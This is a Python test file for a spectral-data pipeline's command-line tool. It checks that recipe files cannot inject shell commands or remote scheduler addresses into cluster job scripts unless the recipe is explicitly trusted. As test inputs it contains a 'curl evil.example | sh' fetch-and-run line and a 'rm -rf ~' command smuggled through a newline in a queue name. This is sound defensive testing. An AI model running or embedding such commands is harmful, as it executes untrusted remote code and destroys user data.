"""Recipes stay data (issue 19): shell job fields and remote schedulers only from the command line or --trust-recipe."""

from __future__ import annotations

import pytest

from hyperspec._errors import RecipeError
from hyperspec.cli import main
from hyperspec.cluster import ClusterError
from hyperspec.pipeline import run_recipe

_BASE = '[input]\npath = "map.zarr"\n[output]\npath = "o.zarr"\n'


def _write(tmp_path, body: str):
    rec = tmp_path / "r.toml"
    rec.write_text(_BASE + body, encoding="utf-8")
    return rec


@pytest.fixture
def no_scheduler(monkeypatch):
    """Fail if anything starts a Dask scheduler (which would listen on a network interface)."""
    distributed = pytest.importorskip("distributed")

    def refuse(*args, **kwargs):
        raise AssertionError("a Dask scheduler was started")

    monkeypatch.setattr(distributed.Scheduler, "__init__", refuse)


@pytest.mark.parametrize("key", ["job_script_prologue", "job_extra_directives"])
def test_shell_fields_in_a_recipe_are_refused(tmp_path, capsys, key):
    pytest.importorskip("dask_jobqueue")
    rec = _write(tmp_path, f'[compute]\nscheduler = "slurm"\n[compute.jobqueue]\n{key} = ["curl evil.example | sh"]\n')
    assert main(["run", str(rec), "--show-job-script"]) == 2
    err = capsys.readouterr().err
    assert f"{rec} (line 8): [compute.jobqueue] {key} = ['curl evil.example | sh'] is refused in a recipe file" in err, err
    assert "--trust-recipe" in err


def test_trusted_recipe_and_command_line_fields(tmp_path, capsys, no_scheduler):
    pytest.importorskip("dask_jobqueue")
    rec = _write(tmp_path, '[compute]\nscheduler = "slurm"\n[compute.jobqueue]\ncores = 2\njob_script_prologue = ["module load cuda"]\n')
    assert main(["run", str(rec), "--show-job-script", "--trust-recipe"]) == 0
    script = capsys.readouterr().out
    assert "\nmodule load cuda\n" in script
    assert "tcp://<insert-scheduler-address-here>:8786" in script  # no scheduler started for a script
    plain = _write(tmp_path, '[compute]\nscheduler = "slurm"\n[compute.jobqueue]\ncores = 2\nqueue = "gpu"\n')
    assert main(["run", str(plain), "--show-job-script", "--job-prologue", "source env.sh", "--job-directive=--gres=gpu:1"]) == 0
    script = capsys.readouterr().out
    assert "\nsource env.sh\n" in script and "#SBATCH --gres=gpu:1" in script and "#SBATCH -p gpu" in script


def test_show_job_script_starts_no_scheduler(tmp_path, capsys, no_scheduler):
    pytest.importorskip("dask_jobqueue")
    rec = _write(tmp_path, '[compute]\nscheduler = "slurm"\n[compute.jobqueue]\ncores = 8\nmemory = "16GB"\n')
    assert main(["run", str(rec), "--show-job-script"]) == 0
    assert "#SBATCH --cpus-per-task=8" in capsys.readouterr().out


def test_remote_scheduler_only_from_the_command_line_or_trusted(tmp_path, capsys, short_connect_timeout):
    import hyperspec  # noqa: PLC0415

    hyperspec.synthetic.write("map", tmp_path / "map.zarr", (2, 3), n_spectral=64, seed=0, progress=False)
    rec = _write(tmp_path, '[compute]\nscheduler = "tcp://127.0.0.1:9"\n')
    assert main(["run", str(rec)]) == 2
    err = capsys.readouterr().err
    assert f"{rec} (line 6): [compute] scheduler = 'tcp://127.0.0.1:9' is refused in a recipe file" in err, err
    assert "--scheduler URL" in err and "cannot reach" not in err
    with pytest.raises(RecipeError, match="scheduler"):
        run_recipe(rec, progress=False)
    with pytest.raises(ClusterError, match="cannot reach the Dask scheduler"):  # trusted: it is tried (and unreachable)
        run_recipe(rec, progress=False, trust_recipe=True, backend="numpy")


def test_job_words_cannot_carry_shell(tmp_path, capsys):
    rec = _write(tmp_path, '[compute]\nscheduler = "slurm"\n[compute.jobqueue]\nqueue = "gpu\\nrm -rf ~"\n')
    assert main(["run", str(rec), "--show-job-script"]) == 2
    err = capsys.readouterr().err
    assert f"{rec} (line 8): [compute.jobqueue].queue" in err and "one word" in err, err
